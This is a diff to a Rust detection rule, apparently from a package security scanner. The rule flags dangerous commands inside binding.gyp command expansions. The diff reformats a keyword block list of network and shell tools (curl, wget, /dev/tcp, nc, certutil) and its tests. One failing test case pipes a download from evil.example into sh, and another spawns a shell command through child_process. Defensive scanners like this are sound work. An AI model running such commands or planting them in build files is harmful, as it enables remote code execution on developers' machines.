@@ -8,9 +8,28 @@ use crate::rule::{Rule, RuleMeta, declare_rule};
 use crate::rules::{first_match, matcher};
 
 const DANGEROUS: &[&str] = &[
-    "curl", "wget", "http://", "https://", "powershell", "bash -c", "sh -c", "| sh", "base64", "eval", "child_process",
-    "exec(", "/dev/tcp", "invoke-", "certutil", "require('https", "require(\"https", "require('http", "require(\"http",
-    "python -c", "python3 -c", "nc ",
+    "curl",
+    "wget",
+    "http://",
+    "https://",
+    "powershell",
+    "bash -c",
+    "sh -c",
+    "| sh",
+    "base64",
+    "eval",
+    "child_process",
+    "exec(",
+    "/dev/tcp",
+    "invoke-",
+    "certutil",
+    "require('https",
+    "require(\"https",
+    "require('http",
+    "require(\"http",
+    "python -c",
+    "python3 -c",
+    "nc ",
 ];
 static DANGEROUS_MATCHER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| matcher(DANGEROUS));
 
@@ -50,7 +69,10 @@ impl Rule for BindingGypCommand {
         while let Some(position) = rest.find("<!") {
             let command_start = position + 2;
             let after = &rest[command_start..];
-            let end = after.find(")\"").or_else(|| after.find(")'")).unwrap_or(after.len().min(400));
+            let end = after
+                .find(")\"")
+                .or_else(|| after.find(")'"))
+                .unwrap_or(after.len().min(400));
             let command = &after[..end];
             if first_match(DANGEROUS_MATCHER.as_ref(), command).is_some() {
                 out.push(file.finding(
@@ -76,12 +98,24 @@ mod tests {
     #[test]
     fn test() {
         let pass = vec![
-            Case::Files(vec![("binding.gyp", r#"{"targets":[{"include_dirs":["<!(node -p \"require('node-addon-api').include\")"]}]}"#)]),
-            Case::Files(vec![("binding.gyp", r#"{"targets":[{"libraries":["<!@(pkg-config --libs glib-2.0)"]}]}"#)]),
+            Case::Files(vec![(
+                "binding.gyp",
+                r#"{"targets":[{"include_dirs":["<!(node -p \"require('node-addon-api').include\")"]}]}"#,
+            )]),
+            Case::Files(vec![(
+                "binding.gyp",
+                r#"{"targets":[{"libraries":["<!@(pkg-config --libs glib-2.0)"]}]}"#,
+            )]),
         ];
         let fail = vec![
-            Case::Files(vec![("binding.gyp", r#"{"targets":[{"sources":["<!(curl -s https://evil.example/p | sh)"]}]}"#)]),
-            Case::Files(vec![("binding.gyp", r#"{"targets":[{"x":["<!@(node -e \"require('child_process').exec('id')\")"]}]}"#)]),
+            Case::Files(vec![(
+                "binding.gyp",
+                r#"{"targets":[{"sources":["<!(curl -s https://evil.example/p | sh)"]}]}"#,
+            )]),
+            Case::Files(vec![(
+                "binding.gyp",
+                r#"{"targets":[{"x":["<!@(node -e \"require('child_process').exec('id')\")"]}]}"#,
+            )]),
         ];
         test_rule(BindingGypCommand::META.name, pass, fail);
     }
